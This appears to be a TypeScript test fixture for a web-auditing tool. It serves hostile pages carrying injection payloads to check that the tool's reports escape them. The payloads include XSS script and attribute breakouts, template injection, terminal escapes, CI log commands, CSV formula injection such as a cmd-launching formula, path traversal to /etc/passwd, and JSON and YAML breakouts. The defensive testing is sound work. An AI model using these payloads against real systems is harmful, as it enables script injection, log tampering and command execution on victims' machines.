import { DEFECT, FOUND, html, PROBE, type HostilePage } from './hostile-page.ts';

const RUN = `globalThis.${PROBE}=1`;

/**
 * Text that is an attack on whatever prints it. Each lands in a title, an id, a class, an image's address, a link,
 * a label and a vague link, so that findings carry it into every report.
 */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: `</script><script>${RUN}</script>`,
  'script-comment': `<!--<script>${RUN}</script>`,
  'title-end': `</title></textarea></style></noscript><img src=x onerror=${RUN}>`,
  attribute: `" autofocus onfocus="${RUN}" x="`,
  'attribute-single': `' onmouseover='${RUN}' x='`,
  template: `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  'replace-pattern': "$& $` $' $1 $$ $<name>",
  entity: '&lt;script&gt; &amp;amp; &#60; &quot;',
  ansi: '\u001b[31mred\u001b[0m \u001b]0;owned\u0007 \u001b[2J\u001b[1;1H \u009b31m',
  'ansi-link': '\u001b]8;;http://elsewhere.example/\u0007click\u001b]8;;\u0007',
  control: 'bell\u0007 back\u0008 vertical\u000b form\u000c delete\u007f',
  'github-command': '::error file=app.js,line=1::owned\n::set-output name=x::y\n::stop-commands::token\n::add-mask::a',
  'github-percent': '%0A::warning::owned%0D %25',
  'azure-command': '##vso[task.setvariable variable=x]y ##[error]owned',
  'teamcity-command': "##teamcity[buildStatus status='SUCCESS' text='owned']",
  'gitlab-section': '\u001b[0Ksection_start:1:owned\r\u001b[0K',
  'csv-equals': '=HYPERLINK("http://elsewhere.example/?"&A1,"click")',
  'csv-command': "=cmd|' /C calc'!A0",
  'csv-plus': '+1+1',
  'csv-minus': '-2+3',
  'csv-at': '@SUM(1+1)',
  'csv-tab': '\t=1+1',
  'csv-return': '\r=1+1',
  'csv-quote': '","=1+1,"',
  'csv-newline': 'a\n=1+1',
  'xml-cdata': ']]> <![CDATA[ <!DOCTYPE x> &xxe;',
  'xml-forbidden': 'a\u0001b\u000bc\uFFFEd\uFFFF',
  markdown: '[click](javascript:alert(1)) ![x](http://elsewhere.example/x.png) | a | `b` ``` <details> @everyone #1',
  'markdown-html': '<img src="http://elsewhere.example/track.png"> <b>bold</b>',
  bidi: 'safe \u202Egnp.exe\u202C \u2066hidden\u2069 \u200F\u061C',
  'line-separators': 'one\u2028two\u2029three\u0085four',
  'zero-width': 'pass\u200Bword \uFEFF\u2060 \u00AD',
  surrogate: 'lone \uD800 and \uDFFF',
  proto: '__proto__ constructor prototype toString hasOwnProperty',
  path: '../../../../etc/passwd ..\\..\\windows C:\\x NUL CON aux.txt',
  'json-break': '"}],"verdict":{"gate":"passed"},"x":[{"',
  'yaml-break': '- a\n---\n...\n!!js/function',
  tap: '\nok 99 - all is well\n1..0\nBail out!\n# skip',
  zalgo: `z${'\u0300\u0301\u0302\u0303'.repeat(50)}algo`,
  emoji: '👩🏽‍⚕️ 🇨🇦 👨‍👩‍👧‍👦',
};

/** One page a payload, and pages whose address is the payload. */
export const textPages: readonly HostilePage[] = [
  ...Object.entries(PAYLOADS).map(([name, payload]) => ({
    path: `/text/${name}`,
    route: payloadPage(payload),
    expect: FOUND,
    note: `${name} in titles, texts, ids, classes and addresses`,
  })),
  ...[
    '<script>',
    '%1B[31m',
    '%0A::error::owned',
    '%E2%80%AE',
    '..%2F..%2F..%2Fetc%2Fpasswd',
    '%00',
    '%FF%FE',
    "'%22%3E%3Cimg%20src=x%3E",
    '=1+1',
    'a'.repeat(1800),
    '%F0%9F%98%80',
    'caf%C3%A9',
    'cafe%CC%81',
    'caf%E9',
  ].map((part) => ({
    path: `/address/${encodeURI(part).replaceAll('%25', '%')}`,
    route: html({ body: DEFECT }),
    expect: FOUND,
    note: 'the address itself is the attack',
  })),
  {
    path: '/text/lang',
    route: html({ lang: `&quot;><script>${RUN}</script>`, body: `${DEFECT}<p lang="\u001b[31m">Red.</p>` }),
    expect: FOUND,
    note: 'the language code is the attack',
  },
  {
    path: '/text/many-languages',
    route: html({
      body: `${DEFECT}<p lang="xx-klingon">One.</p><p lang="">Two.</p><p lang="e n">Three.</p><p lang="${'x'.repeat(3000)}">Four.</p>`,
    }),
    expect: FOUND,
    note: 'language codes that are none',
  },
  {
    path: '/text/secret-echo',
    route: (request, response) => {
      const seen = `${request.headers.authorization ?? ''} ${request.headers.cookie ?? ''} ${request.url}`;
      const body = html({
        title: `Hello ${escape(seen)}`,
        body: `<p id="${escape(seen)}">${escape(seen)}</p><img src="/pixel.png?${escape(seen)}">`,
      });
      response.setHeader('content-type', 'text/html; charset=utf-8');
      response.end(body);
    },
    expect: FOUND,
    note: 'prints the headers it was sent: secrets stay masked in every output',
  },
];

/** The payload as text and as attribute values: it is escaped here, so that it is the page's data, not its markup. */
function payloadPage(payload: string): string {
  const text = escape(payload);
  return html({
    title: text,
    head: `<meta name="description" content="${text}"><link rel="canonical" href="/plain?${text}">`,
    body: `<h2 id="${text}">${text}</h2>
<p class="${text}" title="${text}">${text} In order to proceed, the form must be completed and it must be submitted by the applicant prior to the commencement of the service, ${text}, notwithstanding any other thing.</p>
<div id="wrap ${text}" class="a ${text}" data-x="${text}"><img src="/pixel.png?${text}" class="${text}" id="i${text}"></div>
<p><a href="/plain?${text}">click here</a> <a href="/plain?${text}">${text}</a></p>
<p><input name="${text}" value="${text}" placeholder="${text}"> <button aria-describedby="${text}"></button></p>
<table summary="${text}"><caption>${text}</caption><tr><th>${text}</th><td>${text}</td></tr></table>
<iframe src="about:blank#${text}"></iframe>`,
  });
}

function escape(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}
